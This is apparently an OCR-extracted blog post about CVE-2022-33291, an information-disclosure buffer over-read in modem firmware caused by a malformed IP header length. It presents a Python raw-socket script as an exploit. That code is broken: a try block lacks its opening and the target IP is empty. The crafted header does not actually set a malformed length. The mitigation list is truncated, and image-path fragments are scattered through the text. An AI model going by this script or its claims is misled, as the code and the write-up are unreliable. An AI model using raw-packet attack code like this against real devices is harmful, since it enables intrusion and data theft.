The CVE-2022-33291 vulnerability is an information disclosure vulnerability that pertains to a buffer over-read issue occurring in specific modem devices. The modem's firmware, while processing an IP header with a malformed length, could lead to information disclosure due to this buffer over-read issue.

This blog post will delve into the details of the vulnerability, along with a code snippet for exploiting it, mitigation steps, and references to original sources.

Vulnerability Details

The vulnerability exists in the modem's functionality responsible for processing incoming IP headers. When the modem receives an IP header containing an invalid length, it fails to properly validate this input and ends up overshooting the buffer. As a result, adjacent memory data may be accessed by the attacker, potentially exposing sensitive information.

This issue could allow attackers to gainunauthorized access to valuable data, leading to further exploitation or manipulation of the target device or its connected systems.

The following is a Python code snippet for exploiting this vulnerability

import socket

# Target IP and port
target_ip = ""
target_port = 808

# Craft the malformed IP header
header = b"\x45"  # IP Version (4) and header length (5)
header += b"\x00"  # Differentiated Services Field (DSF)
header += b"\x00\x00"  # Total Length, xFFFF is the maximum
header += b"\x00\x00"  # Identification
header += b"\x00\x00"  # Flags and fragment offset
header += b"\x80"  # Time To Live (TTL)
header += b"\x00"  # Protocol ( for unspecified)
header += b"\x00\x00"  # Header checksum
header += b"\x00\x00\x00\x00"  # Source IPheader += socket.inet_aton(target_ip)  # Target IP

# Create a raw socket
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

# Disable IP header auto-generation
sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    # Send the crafted packet
    sock.sendto(header, (target_ip, target_port))
except Exception as e:
    print(f"Error: {str(e)}")
    # Close the socket

The exploit aims to target specific modem devices, so before attempting any exploitation, ensure that this vulnerability is present in thetarget device's firmware.

Continuously monitor and respond to security vulnerabilities and risks.

5. Refer to modem manufacturers' security advisories and apply the appropriate fixes or updates as soon as possible.

1. CVE Details
2. National Vulnerability Database
3. Vulnerability Announcement by Vendor


The CVE-2022-33291 vulnerability highlights the importance of proper input validation and buffer boundary checking in system design. By understanding such vulnerabilities, implementing recommended mitigation steps, andkeeping firmware up-to-date, users and organizations can be better prepared to address potential security risks and protect their sensitive informationeffectively.


Published on:04/13/2023 07:15:00 UTCLast modified on: 04/24/2023 14:11:00 UTC